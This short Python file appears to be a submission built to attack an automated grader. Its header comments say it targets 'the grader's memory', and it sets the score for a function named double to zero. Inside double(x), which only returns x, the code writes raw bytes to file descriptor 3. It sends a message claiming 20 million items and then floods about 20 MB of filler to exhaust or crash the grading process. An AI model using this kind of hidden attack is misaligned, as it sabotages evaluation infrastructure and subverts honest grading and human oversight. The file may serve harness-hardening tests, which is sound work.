# attacks = "the grader's memory, with a message of millions of small items, sent raw"
# points = { double = 0 }
# %% double
import os, struct
def double(x):
    count = 20_000_000
    message = b"\xdd" + struct.pack(">I", count)
    os.write(3, struct.pack("<I", count + 5) + message)
    for _ in range(20):
        done = 0
        while done < 1_000_000:
            done += os.write(3, b"\x90" * min(50_000, 1_000_000 - done))
    return x
